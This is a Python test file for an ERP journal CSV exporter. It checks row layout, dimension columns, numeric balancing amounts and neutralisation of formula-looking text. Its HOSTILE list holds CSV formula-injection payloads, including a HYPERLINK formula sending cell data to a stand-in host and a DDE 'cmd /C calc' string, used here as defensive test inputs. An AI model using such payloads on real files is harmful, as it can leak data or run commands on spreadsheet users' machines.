"""The journal CSV: a row per line that any ERP's import can map, formula-safe text, amounts
that stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from journals.erp.base import ErpJournal, ErpLine
from journals.exports.csv_export import write_csv

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
]

# Hand-worked: 1,250.00 of sales = 1,213.75 to clearing + 36.25 of fees; a 80.00 EUR refund.
SALES = ErpJournal(
    idempotency_key="k-1",
    legal_entity="US01",
    posting_date=date(2026, 11, 25),
    currency="USD",
    description="Shopify sales",
    reference="JE-2026-11-000123",
    lines=(
        ErpLine("1100", Decimal("1213.75"), Decimal(0), HOSTILE[0], {"cost_centre": "CC-410"}),
        ErpLine("6100", Decimal("36.25"), Decimal(0), HOSTILE[1], {"cost_centre": "=CC"}),
        ErpLine("4000", Decimal(0), Decimal("1250"), HOSTILE[2], {"store": "US-EAST-12"}),
    ),
)
REFUND = ErpJournal(
    idempotency_key="k-2",
    legal_entity="DE01",
    posting_date=date(2026, 11, 26),
    currency="EUR",
    description=HOSTILE[3],
    reference="JE-2026-11-000124",
    lines=(
        ErpLine("4000", Decimal("80.00"), Decimal(0), HOSTILE[4]),
        ErpLine("1100", Decimal(0), Decimal("80.00")),
    ),
)


class CountingStream(io.StringIO):
    writes = 0

    def write(self, text: str) -> int:
        self.writes += 1
        return super().write(text)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_line_is_a_row_with_dimensions_as_columns() -> None:
    stream = CountingStream()

    written = write_csv([SALES, REFUND], stream)

    assert written == 5
    assert stream.writes == 6  # the header and each row as it comes, not one block at the end
    text = stream.getvalue()
    header = text.splitlines()[0]
    assert header == (
        "reference,posting_date,legal_entity,account,debit,credit,currency,description,"
        "cost_centre,store"
    )
    rows = rows_of(text)
    assert [(r["reference"], r["account"], r["currency"]) for r in rows] == [
        ("JE-2026-11-000123", "1100", "USD"),
        ("JE-2026-11-000123", "6100", "USD"),
        ("JE-2026-11-000123", "4000", "USD"),
        ("JE-2026-11-000124", "4000", "EUR"),
        ("JE-2026-11-000124", "1100", "EUR"),
    ]
    assert [(r["cost_centre"], r["store"]) for r in rows] == [
        ("CC-410", ""),
        ("'=CC", ""),
        ("", "US-EAST-12"),
        ("", ""),
        ("", ""),
    ]
    assert rows[3]["posting_date"] == "2026-11-26"
    assert rows[3]["legal_entity"] == "DE01"


def test_formula_looking_descriptions_are_neutralised() -> None:
    stream = io.StringIO()
    write_csv([SALES, REFUND], stream)

    descriptions = [r["description"] for r in rows_of(stream.getvalue())]

    assert descriptions == [
        "'" + HOSTILE[0],
        "'" + HOSTILE[1],
        "'" + HOSTILE[2],
        "'" + HOSTILE[4],
        "'" + HOSTILE[3],  # an empty line description falls back to the entry's
    ]


def test_amounts_parse_as_numbers_and_balance_per_entry() -> None:
    stream = io.StringIO()
    write_csv([SALES, REFUND], stream)
    rows = rows_of(stream.getvalue())

    amounts = [(Decimal(r["debit"]), Decimal(r["credit"])) for r in rows]

    assert amounts == [
        (Decimal("1213.75"), Decimal("0.00")),
        (Decimal("36.25"), Decimal("0.00")),
        (Decimal("0.00"), Decimal("1250.00")),
        (Decimal("80.00"), Decimal("0.00")),
        (Decimal("0.00"), Decimal("80.00")),
    ]
    assert all(not r["debit"].startswith("'") and not r["credit"].startswith("'") for r in rows)
    for reference in ("JE-2026-11-000123", "JE-2026-11-000124"):
        mine = [a for a, r in zip(amounts, rows, strict=True) if r["reference"] == reference]
        assert sum(d for d, _ in mine) == sum(c for _, c in mine)


def test_the_caller_can_fix_the_dimension_columns() -> None:
    stream = io.StringIO()

    write_csv([SALES], stream, dimensions=["store"])

    rows = rows_of(stream.getvalue())
    assert list(rows[0]) == [
        "reference",
        "posting_date",
        "legal_entity",
        "account",
        "debit",
        "credit",
        "currency",
        "description",
        "store",
    ]
    assert [r["store"] for r in rows] == ["", "", "US-EAST-12"]
